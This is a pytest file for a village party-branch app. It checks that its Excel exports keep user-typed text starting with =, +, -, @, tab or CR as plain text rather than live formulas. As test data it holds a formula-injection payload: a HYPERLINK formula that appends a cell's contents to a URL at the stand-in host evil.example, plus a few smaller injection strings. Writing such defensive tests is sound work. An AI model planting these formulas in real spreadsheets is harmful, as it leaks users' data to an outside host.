"""Issue 16 — exports run no formulas: text typed by cadres or villagers that starts with
`=`, `+`, `-`, `@`, a tab or CR is a text cell in every workbook (会议台账, the town's report,
the roster template), read back with openpyxl."""
import io
from datetime import datetime, timedelta

from openpyxl import load_workbook

from partyapp import clock
from partyapp.extensions import db
from partyapp.meetings import services as meeting_services
from partyapp.models import Role

from .factories_meetings import make_meeting
from .factories_town import held, local, make_person, make_town, small_branch

LINK = '=HYPERLINK("http://evil.example/?x="&B2,"点击查看会议记录")'
SHORT_LINK = '=HYPERLINK("http://e.x/","看")'     # fits a person's name (40) with 书记
NASTY = [LINK, "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def assert_no_formula(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def test_the_meeting_ledger_keeps_a_hyperlink_topic_as_text(client, login, world, frozen):
    start = datetime(2026, 11, 24, 1, 0, tzinfo=clock.UTC)
    frozen(start)
    meeting = make_meeting(world.branch, starts_at=start, topic=LINK, place="+1+1",
                           host=world.secretary, recorder=world.recorder)
    clock.move(timedelta(hours=3))
    assert meeting_services.close_meeting(world.recorder, meeting, "@SUM(1,2) 学习文件") == []
    login(world.secretary)
    response = client.get(f"/meetings/ledger/{world.branch.id}/export.xlsx?period=2026-Q4")
    assert response.status_code == 200
    texts = assert_no_formula(response.data)
    assert LINK in texts and "+1+1" in texts and "@SUM(1,2) 学习文件" in texts


def test_the_town_workbook_and_the_roster_template_keep_text_as_text(client, login, app_ctx,
                                                                      frozen):
    frozen(local(2026, 11, 20))
    town = make_town("青石镇党委")
    admin = make_person("镇管理员", org=town, roles=(Role.TOWN_ADMIN,))
    branch, (group,), secretary, members = small_branch(town, "evil", SHORT_LINK)
    group.name = "-2+3"
    secretary.name = "@SUM(1,2)"
    db.session.commit()
    held(branch, local(2026, 11, 5), ("theme_day",), [secretary, *members], [secretary])
    login(admin)
    report = client.get(f"/town/{town.id}/report.xlsx?period=2026-Q4")
    assert report.status_code == 200
    assert any(text.startswith(SHORT_LINK) for text in assert_no_formula(report.data))
    login(secretary)
    template = client.get(f"/org/{branch.id}/import/template.xlsx")
    assert template.status_code == 200
    assert "-2+3" in assert_no_formula(template.data)


def test_every_risky_start_is_written_as_a_text_cell(app_ctx):
    from openpyxl import Workbook

    from partyapp.xlsx import append_row

    book = Workbook()
    append_row(book.active, [*NASTY, 5, None])
    buffer = io.BytesIO()
    book.save(buffer)
    book = load_workbook(io.BytesIO(buffer.getvalue()))
    cells = list(book.active.iter_rows())[0]
    assert [c.data_type for c in cells[:6]] == ["s"] * 6
    # XML reads a stored CR back as LF; the text is otherwise exactly what was typed.
    assert [c.value for c in cells[:6]] == [t.replace("\r", "\n") for t in NASTY]
    assert cells[6].value == 5
